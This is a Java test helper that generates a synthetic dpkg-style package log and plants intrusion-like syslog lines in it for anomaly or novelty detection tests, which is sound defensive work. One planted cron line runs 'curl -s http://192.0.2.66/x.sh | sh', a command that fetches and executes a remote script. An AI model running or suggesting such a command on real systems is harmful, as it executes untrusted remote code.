package io.ltm.testutils;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** Logs for the novelty tests. */
public final class NoveltyTestLogs {
    /** Lines of a kind no package log has: kernel out-of-memory and disk errors. */
    public static final List<String> PLANTED = List.of(
            "kernel: Out of memory: Killed process 31337 (java) total-vm:8123456kB, anon-rss:7340032kB",
            "kernel: oom_reaper: reaped process 31337 (java), now anon-rss:0kB, file-rss:0kB",
            "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0",
            "kernel: Buffer I/O error on dev sda1, logical block 0, lost async page write",
            "sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2",
            "sshd[4243]: Failed password for root from 203.0.113.7 port 52213 ssh2",
            "kernel: CPU3: Core temperature above threshold, cpu clock throttled (total events = 1)",
            "kernel: mce: [Hardware Error]: Machine check events logged",
            "smartd[812]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors",
            "kernel: nvme nvme0: I/O 17 QID 3 timeout, aborting",
            "systemd[1]: postgresql.service: Main process exited, code=killed, status=9/KILL",
            "kernel: TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
            "sshd[4250]: Accepted publickey for root from 198.51.100.23 port 40022 ssh2",
            "sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
            "kernel: usb 2-1: new high-speed USB device number 9 using xhci_hcd",
            "kernel: Firewall: *INVALID* IN=eth0 OUT= SRC=192.0.2.66 DST=10.0.0.5 PROTO=TCP DPT=22",
            "crond[991]: (root) CMD (curl -s http://192.0.2.66/x.sh | sh)",
            "kernel: watchdog: BUG: soft lockup - CPU#1 stuck for 23s! [kworker/1:2:1888]",
            "systemd-logind[620]: Power key pressed short, shutting down",
            "kernel: audit: type=1400 apparmor=\"DENIED\" operation=\"open\" profile=\"nginx\" name=\"/etc/shadow\"");

    private NoveltyTestLogs() {}

    /** A small dpkg-like log (generated, deterministic) with the planted stretch at 70%. */
    public static List<String> packageLog(int n, long seed) {
        Random r = new Random(seed);
        String[] pkgs = {
            "libc6",
            "libssl3",
            "openssl",
            "curl",
            "libcurl4",
            "git",
            "python3",
            "perl-base",
            "tzdata",
            "ca-certificates",
            "libxml2",
            "zlib1g",
            "bash",
            "coreutils",
            "systemd",
            "udev",
            "openjdk-17-jre",
            "maven",
            "libgcc-s1",
            "gcc-12",
            "make",
            "dpkg",
            "apt",
            "libapt-pkg6.0"
        };
        String[] actions = {
            "status unpacked",
            "status half-configured",
            "status installed",
            "configure",
            "upgrade",
            "status half-installed",
            "trigproc",
            "install"
        };
        List<String> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            String p = pkgs[r.nextInt(pkgs.length)];
            String a = actions[r.nextInt(actions.length)];
            out.add(String.format(
                    Locale.ROOT,
                    "2026-11-%02d %02d:%02d:%02d %s %s:amd64 %d.%d-%d",
                    1 + i * 28 / n,
                    r.nextInt(24),
                    r.nextInt(60),
                    r.nextInt(60),
                    a,
                    p,
                    r.nextInt(5),
                    r.nextInt(20),
                    r.nextInt(9)));
        }
        return out;
    }
}
